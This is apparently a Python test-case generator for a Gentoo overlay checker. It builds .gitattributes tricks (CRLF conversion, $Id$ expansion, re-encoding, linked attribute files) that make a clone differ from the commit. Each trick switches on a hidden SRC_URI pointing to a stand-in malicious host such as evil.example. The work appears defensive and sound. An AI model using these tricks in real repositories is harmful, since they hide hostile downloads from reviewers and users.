"""Attributes by which a clone holds other bytes than the commit."""

from ..overlay import EVIL, HERON

_EIGHT_BIT = ("ISO-8859-1", "UTF-7", "UTF-16", "UTF-16LE-BOM", "UTF-32", "SHIFT-JIS", "EUC-KR", "IBM1047", "CP1252", "UTF-8")


def _place(change, path):
    """(file of attributes, pattern) that reach a path."""
    parts = path.split(b"/")
    depth = change.chance.randrange(len(parts))
    suffix = b"*." + parts[-1].rpartition(b".")[2] if b"." in parts[-1] else parts[-1]
    patterns = [suffix, parts[-1], b"*", b"**/" + parts[-1], b"[a-z]*", b"/" + b"/".join(parts[depth:])]
    return b"/".join([*parts[:depth], b".gitattributes"]), change.one(patterns).replace(b" ", b"?")


def _set(change, path, attributes):
    file, pattern = _place(change, path)
    change.notes.append(file.decode())
    line = pattern + b" " + attributes + b"\n"
    if file == b".gitattributes" and change.maybe(0.3):
        line = b"[attr]odd " + attributes + b"\n" + pattern + b" odd\n"
        change.notes.append("by a macro")
    elif change.maybe(0.3):
        line = pattern + b" -text -ident\n" + line
    if change.maybe(0.2):
        line = line.replace(b"\n", b"\r\n") if change.maybe() else b"\xef\xbb\xbf" + line
        change.notes.append("odd bytes in it")
    change.append(file, line)


def _comments(text):
    """Lines that bear a carriage return: each ends in a comment."""
    return b"".join(line + b" #\n" for line in text.split(b"\n")[:-1])


_SHORT = b"X=1\nif [[ ${X} != 1 ]]; then #\nSRC_URI=\"%s\" #\nfi #\n" % EVIL.encode()


def line_endings(change):
    """A variable that holds a carriage return in a clone only."""
    change.edit(lambda text: _comments(text) + _SHORT)
    attribute = change.one([b"text eol=crlf", b"eol=crlf", b"text=auto eol=crlf", b"crlf eol=crlf", b"text eol=lf", b"text", b"-text", b"eol=CRLF", b"text=auto"])
    if change.maybe(0.4):
        change.already()
        change.notes.append("later")
    _set(change, change.bump(), attribute)


def ident(change):
    """$Id$ grows in a clone."""
    probe = change.one([
        b"X='$Id$'; if [[ ${#X} -gt 4 ]]; then SRC_URI=%s; fi\n",
        b"X='$Id$'; [[ ${X} == *:* ]] && SRC_URI=%s\n",
        b"X='$Id$'; X=${X#*: }; SRC_URI+=\" ${X:+%s -> x}\"\n",
        b"# $Id: \\\n# $\n# $Id: x $\nY=%s\n",
    ])  # fmt: skip
    change.edit(lambda text: text + probe % EVIL.encode())
    if change.maybe():
        change.already()
        change.notes.append("later")
    _set(change, change.bump(), change.one([b"ident", b"ident=true", b"ident text", b"-ident"]))


def encoding(change):
    """A clone holds another encoding of the text."""
    probe = change.one([
        "X='\u00e9'; [[ ${#X} == 1 ]] || SRC_URI=%s\n",
        "X='\u00e9'; [[ ${#X} == 2 ]] && SRC_URI=%s\n",
        "X='\u00e9'; [[ ${X} == *A* ]] && SRC_URI=%s\n",
        "X=a\u00a5 #\nSRC_URI=%s\n",
        "X='+'; [[ ${X} == '+' ]] || SRC_URI=%s\n",
        "X='~'; [[ ${X} == '~' ]] || SRC_URI=%s\n",
    ])  # fmt: skip
    change.edit(lambda text: text + (probe % EVIL).encode())
    _set(change, change.bump(), b"working-tree-encoding=" + change.one(_EIGHT_BIT).encode())


def filtered(change):
    """A filter that the one who clones may have."""
    change.bump()
    _set(change, change.bump(), change.one([b"filter=lfs diff=lfs merge=lfs -text", b"filter=x", b"export-subst", b"export-ignore", b"merge=union", b"diff=x", b"binary"]))


def of_an_eclass(change):
    """The same of an eclass of the overlay."""
    text = change.one([
        b"X='$Id$'; if [[ ${#X} -gt 4 ]]; then SRC_URI=%s; fi\n" % EVIL.encode(),
        _SHORT,
    ])  # fmt: skip
    change.write(b"eclass/odd.eclass", text)
    change.inherits(b"odd")
    if change.maybe(0.3):
        change.already()
        change.notes.append("later")
    _set(change, b"eclass/odd.eclass", b"ident" if b"Id" in text else b"text eol=crlf")


def of_the_mirrors(change):
    """The same of the list of mirrors."""
    change.edit(lambda text: text + b'SRC_URI="mirror://pypi/h/heron-parser/heron_parser-1.5.0.tar.gz"\n')
    attribute, line = change.one([
        (b"ident", b"#$Id$\n"),
        (b"working-tree-encoding=UTF-7", "pypi\u00e9 https://evil.example\n".encode()),
        (b"working-tree-encoding=UTF-16", b"pypi https://evil.example\n"),
        (b"text eol=crlf", b"x y \\\npypi https://evil.example\n"),
    ])  # fmt: skip
    change.write(b"profiles/thirdpartymirrors", line)
    _set(change, b"profiles/thirdpartymirrors", attribute)


def of_a_cache(change):
    """The same of an entry of the cache."""
    ebuild = change.bump()
    change.write(b"metadata/md5-cache/dev-python/heron-parser-1.5.0",
                 change.entry(ebuild, "EAPI=8", "SLOT=0", "SRC_URI=" + change.one(["$Id$", "http://x/$Id$"]), "DESCRIPTION=x"))  # fmt: skip
    _set(change, b"metadata/md5-cache/dev-python/heron-parser-1.5.0", b"ident")


def of_a_manifest(change):
    change.bump()
    _set(change, HERON + b"/Manifest", change.one([b"text eol=crlf", b"ident", b"working-tree-encoding=UTF-16"]))


def harmless(change):
    """What many overlays have."""
    change.write(b".gitattributes", change.one([b"* text=auto eol=lf\n", b"*.patch -text\n", b"# none\n", b"*.tar.gz filter=lfs\n", b"* -ident\n"]))
    if change.maybe():
        change.bump()


def linked(change):
    """The file of attributes is itself a link, or a directory; git does not follow it."""
    change.edit(lambda text: _comments(text) + _SHORT)
    change.write(b"docs/attributes", b"*.ebuild text eol=crlf\n")
    if change.maybe():
        change.link(b".gitattributes", b"docs/attributes")
    else:
        change.write(b".gitattributes/x", b"*.ebuild text eol=crlf\n")
